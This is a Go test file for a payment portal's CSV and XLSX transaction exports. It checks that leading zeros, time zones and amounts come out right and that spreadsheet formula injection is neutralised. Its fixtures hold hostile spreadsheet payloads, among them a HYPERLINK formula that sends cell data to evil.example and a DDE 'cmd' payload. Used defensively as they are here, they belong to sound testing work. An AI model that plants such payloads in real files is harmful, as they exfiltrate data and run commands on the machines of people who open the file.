package web_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/example/mposportal/models"
	"github.com/xuri/excelize/v2"
)

// exportFixture is a store in Riga with an approved sale whose codes start with zeros, its
// refund, and a declined sale whose words and codes try to run as formulas.
func exportFixture(t *testing.T) (*app, *browser) {
	t.Helper()
	a := newApp(t, true)
	// Before the first request: the portal reads the store's zone once and keeps it a while.
	if err := a.db.Model(&models.Endpoint{}).Where("id = ?", 1).Update("time_zone", "Europe/Riga").Error; err != nil {
		t.Fatal(err)
	}
	set := func(tx models.Transaction, cols map[string]any) {
		t.Helper()
		if err := a.db.Model(&models.Transaction{}).Where("id = ?", tx.ID).Updates(cols).Error; err != nil {
			t.Fatal(err)
		}
	}
	card := models.TxUpdate{Source: "reader", State: models.TxSending, CardLast4: "0042", CardBrand: "VISA"}
	sale := a.addTx(t, "PCODES", 1042, models.KindSale, card,
		models.TxUpdate{Source: "response", State: models.TxProcessing, GatewayOrderID: "0001969106"},
		models.TxUpdate{Source: "callback", State: models.TxApproved, ApprovalCode: "012345", RRN: "001234567890"})
	set(sale, map[string]any{"created_at": time.Date(2026, 1, 15, 10, 30, 0, 0, time.UTC), "reader_label": "Counter 1",
		"description": `=HYPERLINK("http://evil.example/?"&A1,"Open")`})
	refund := a.addTx(t, "PCODES-R1", 500, models.KindRefund, card,
		models.TxUpdate{Source: "response", State: models.TxProcessing, GatewayOrderID: "0001969106"},
		models.TxUpdate{Source: "callback", State: models.TxApproved, ApprovalCode: "012399", RRN: "001234567891"})
	set(refund, map[string]any{"created_at": time.Date(2026, 1, 15, 11, 0, 0, 0, time.UTC), "parent_order_id": "PCODES",
		"description": "\tReturned goods"})
	declined := a.addTx(t, "PDECLINED", 2500, models.KindSale, card,
		models.TxUpdate{Source: "response", State: models.TxProcessing, GatewayOrderID: `=1+2"&X`},
		models.TxUpdate{Source: "poll", State: models.TxDeclined, ErrorCode: "05", ErrorMessage: "@SUM(1+1)*cmd|' /C calc'!A0"})
	set(declined, map[string]any{"created_at": time.Date(2026, 1, 15, 12, 0, 0, 0, time.UTC), "description": "+371 tip",
		"reader_label": "-Back room"})
	return a, a.browser().login("staff", staffPW)
}

// download fetches an export and checks its type.
func download(t *testing.T, b *browser, path, contentType string) []byte {
	t.Helper()
	resp, err := b.c.Get(b.a.url + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != contentType ||
		!strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("%s: %d %q %q", path, resp.StatusCode, resp.Header.Get("Content-Type"), resp.Header.Get("Content-Disposition"))
	}
	return body
}

// unCode undoes the CSV's text marking of codes, ="…", the way the README tells programs to.
func unCode(s string) string {
	if strings.HasPrefix(s, `="`) && strings.HasSuffix(s, `"`) && len(s) >= 3 {
		return s[2 : len(s)-1]
	}
	return s
}

var (
	csvCodeCell  = regexp.MustCompile(`^="[0-9A-Za-z._/:-]+"$`)
	csvNumber    = regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`)
	csvRunsFirst = "=+-@\t\r" // what makes a spreadsheet read a cell as a formula (OWASP)
)

func TestTransactionsCSVKeepsCodesAndGuardsFormulas(t *testing.T) {
	_, staff := exportFixture(t)
	body := download(t, staff, "/transactions.csv", "text/csv; charset=utf-8")
	if !bytes.HasPrefix(body, []byte("\uFEFF")) {
		t.Error("the CSV has no byte-order mark: Excel would read it in a legacy code page")
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
	if err != nil || len(rows) != 4 {
		t.Fatalf("%d rows, %v; want header + 3", len(rows), err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, h := range []string{"created_at", "client_order_id", "gateway_order_id", "amount", "currency", "card_last4", "approval_code",
		"rrn", "error_code", "error_message", "original_order", "reader_label", "description"} {
		if _, ok := col[h]; !ok {
			t.Fatalf("no %s column in %v", h, rows[0])
		}
	}
	byID := map[string][]string{}
	for _, r := range rows[1:] {
		byID[unCode(r[col["client_order_id"]])] = r
		// Nothing may run as a formula: a cell that starts like one is either a code as a
		// string literal (="…" with nothing in it that could end the string) or a signed number.
		for i, cell := range r {
			if cell != "" && strings.ContainsRune(csvRunsFirst, rune(cell[0])) && !csvCodeCell.MatchString(cell) && !csvNumber.MatchString(cell) {
				t.Errorf("%s: cell %q of %s would run as a formula", r[col["client_order_id"]], cell, rows[0][i])
			}
		}
	}
	sale, refund, declined := byID["PCODES"], byID["PCODES-R1"], byID["PDECLINED"]
	if sale == nil || refund == nil || declined == nil {
		t.Fatalf("rows by order: %v", byID)
	}
	for name, want := range map[string]string{"rrn": "001234567890", "approval_code": "012345", "card_last4": "0042", "gateway_order_id": "0001969106"} {
		// Marked as text, so a spreadsheet keeps the zeros; the codes themselves come back exactly.
		if got := sale[col[name]]; got != `="`+want+`"` || unCode(got) != want {
			t.Errorf("%s = %q, want %q marked as text", name, got, want)
		}
	}
	if got := declined[col["error_code"]]; unCode(got) != "05" || got == "05" {
		t.Errorf("error_code = %q, want 05 marked as text", got)
	}
	// A code that could end the string literal is not wrapped but guarded like any text.
	if got := declined[col["gateway_order_id"]]; got != `'=1+2"&X` {
		t.Errorf("gateway_order_id = %q, want it guarded", got)
	}
	for _, c := range []struct {
		row        []string
		name, want string
	}{
		{sale, "description", `'=HYPERLINK("http://evil.example/?"&A1,"Open")`},
		{sale, "reader_label", "Counter 1"},
		{sale, "amount", "10.42"},
		{sale, "currency", "EUR"},
		{sale, "created_at", "2026-01-15T12:30:00+02:00"}, // Riga's offset in January
		{refund, "amount", "-5.00"},
		{refund, "original_order", `="PCODES"`},
		{refund, "description", "'\tReturned goods"},
		{declined, "description", "'+371 tip"},
		{declined, "reader_label", "'-Back room"},
		{declined, "error_message", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	} {
		if got := c.row[col[c.name]]; got != c.want {
			t.Errorf("%s %s = %q, want %q", unCode(c.row[col["client_order_id"]]), c.name, got, c.want)
		}
	}
}

func TestTransactionsXLSXHasTypedCells(t *testing.T) {
	_, staff := exportFixture(t)
	const xlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	f, err := excelize.OpenReader(bytes.NewReader(download(t, staff, "/transactions.xlsx", xlsxType)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	const sheet = "Transactions"
	rows, err := f.GetRows(sheet)
	if err != nil || len(rows) != 4 {
		t.Fatalf("%d rows, %v; want header + 3", len(rows), err)
	}
	if rows[0][0] != "created_at (Europe/Riga)" {
		t.Errorf("the time column is %q: it must name the zone its dates are in", rows[0][0])
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i + 1
	}
	row := map[string]int{}
	for i, r := range rows[1:] {
		row[r[col["client_order_id"]-1]] = i + 2
	}
	cell := func(order, name string) string {
		t.Helper()
		if col[name] == 0 || row[order] == 0 {
			t.Fatalf("no %s cell for %s (columns %v)", name, order, rows[0])
		}
		ref, _ := excelize.CoordinatesToCellName(col[name], row[order])
		return ref
	}
	numFmt := func(ref string) string {
		t.Helper()
		id, err := f.GetCellStyle(sheet, ref)
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(id)
		if err != nil || st.CustomNumFmt == nil {
			t.Fatalf("%s: style %d, %v: no number format", ref, id, err)
		}
		return *st.CustomNumFmt
	}
	raw := excelize.Options{RawCellValue: true}

	// Codes are text cells: the zeros stay.
	for _, c := range []struct{ order, name, want string }{
		{"PCODES", "rrn", "001234567890"}, {"PCODES", "approval_code", "012345"}, {"PCODES", "card_last4", "0042"},
		{"PCODES", "gateway_order_id", "0001969106"}, {"PDECLINED", "error_code", "05"},
	} {
		ref := cell(c.order, c.name)
		typ, _ := f.GetCellType(sheet, ref)
		v, _ := f.GetCellValue(sheet, ref, raw)
		if (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) || v != c.want {
			t.Errorf("%s %s: type %v value %q, want the text %q", c.order, c.name, typ, v, c.want)
		}
		// Formatted as text too, so a code someone edits stays text.
		if id, _ := f.GetCellStyle(sheet, ref); id == 0 {
			t.Errorf("%s %s has no style", c.order, c.name)
		} else if st, err := f.GetStyle(id); err != nil || st.NumFmt != 49 {
			t.Errorf("%s %s: number format %d, want 49 (text)", c.order, c.name, st.NumFmt)
		}
	}
	// Amounts are numbers in major units, refunds negative, shown with the currency's decimals.
	for order, want := range map[string]float64{"PCODES": 10.42, "PCODES-R1": -5, "PDECLINED": 25} {
		ref := cell(order, "amount")
		typ, _ := f.GetCellType(sheet, ref)
		v, _ := f.GetCellValue(sheet, ref, raw)
		got, err := strconv.ParseFloat(v, 64)
		if (typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber) || err != nil || got != want {
			t.Errorf("%s amount: type %v value %q, want the number %v", order, typ, v, want)
		}
	}
	if got := numFmt(cell("PCODES", "amount")); got != "#,##0.00" {
		t.Errorf("amount format %q, want two decimals (EUR)", got)
	}
	if v, _ := f.GetCellValue(sheet, cell("PCODES-R1", "amount")); v != "-5.00" {
		t.Errorf("the refund shows as %q", v)
	}
	// Times are date cells: a serial number with a date format, the store's wall clock.
	ref := cell("PCODES", "created_at (Europe/Riga)")
	v, _ := f.GetCellValue(sheet, ref, raw)
	serial, err := strconv.ParseFloat(v, 64)
	if err != nil {
		t.Fatalf("created_at %q is not a date serial", v)
	}
	if at, err := excelize.ExcelDateToTime(serial, false); err != nil || !at.Equal(time.Date(2026, 1, 15, 12, 30, 0, 0, time.UTC)) {
		t.Errorf("created_at is %v, want 12:30 (10:30 UTC in Riga)", at)
	}
	if got := numFmt(ref); got != "yyyy-mm-dd hh:mm:ss" {
		t.Errorf("created_at format %q, want a date-time format", got)
	}
	if shown, _ := f.GetCellValue(sheet, ref); shown != "2026-01-15 12:30:00" {
		t.Errorf("created_at shows as %q", shown)
	}
	// Words are text cells, shown as written and never evaluated: no apostrophe needed.
	ref = cell("PCODES", "description")
	if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
		t.Errorf("the description became the formula %q", formula)
	}
	if v, _ := f.GetCellValue(sheet, ref); v != `=HYPERLINK("http://evil.example/?"&A1,"Open")` {
		t.Errorf("description %q", v)
	}
	if v, _ := f.GetCellValue(sheet, cell("PCODES", "reader_label")); v != "Counter 1" {
		t.Errorf("reader_label %q", v)
	}

	// The same filters as the list and the CSV.
	f2, err := excelize.OpenReader(bytes.NewReader(download(t, staff, "/transactions.xlsx?status=declined", xlsxType)))
	if err != nil {
		t.Fatal(err)
	}
	defer f2.Close()
	if rows, _ := f2.GetRows(sheet); len(rows) != 2 || rows[1][col["client_order_id"]-1] != "PDECLINED" {
		t.Errorf("?status=declined exported %v", rows)
	}
}

func TestTransactionsPageLinksBothExports(t *testing.T) {
	_, staff := exportFixture(t)
	_, body := staff.get("/transactions?status=declined&q=PDECL")
	for _, want := range []string{`href="/transactions.xlsx?q=PDECL&amp;status=declined"`, `href="/transactions.csv?q=PDECL&amp;status=declined"`} {
		if !strings.Contains(body, want) {
			t.Errorf("the page lacks %s", want)
		}
	}
}

func TestCloseHistoryCSVKeepsCodes(t *testing.T) {
	a, _ := exportFixture(t)
	a.addClose(t, models.CloseDay{RequestID: "0042", State: models.CloseFinished, Currency: "EUR", SaleCount: 1, SaleSumMinor: 1042,
		GwSaleCount: 1, GwSaleSumMinor: 1042, Code39: "00", RRN: "000123456789", StartedBy: "=Mallory", Trigger: "manual",
		CreatedAt: time.Date(2026, 1, 15, 21, 0, 0, 0, time.UTC)})
	admin := a.browser().login("admin", adminPW)
	body := download(t, admin, "/admin/closeday/history.csv", "text/csv; charset=utf-8")
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
	if !bytes.HasPrefix(body, []byte("\uFEFF")) || err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	got := map[string]string{}
	for i, h := range rows[0] {
		got[h] = rows[1][i]
	}
	for name, want := range map[string]string{"created_at": "2026-01-15T23:00:00+02:00", "request_id": `="0042"`, "code39": `="00"`,
		"rrn": `="000123456789"`, "our_sale_sum": "10.42", "started_by": "'=Mallory"} {
		if got[name] != want {
			t.Errorf("%s = %q, want %q", name, got[name], want)
		}
	}
}
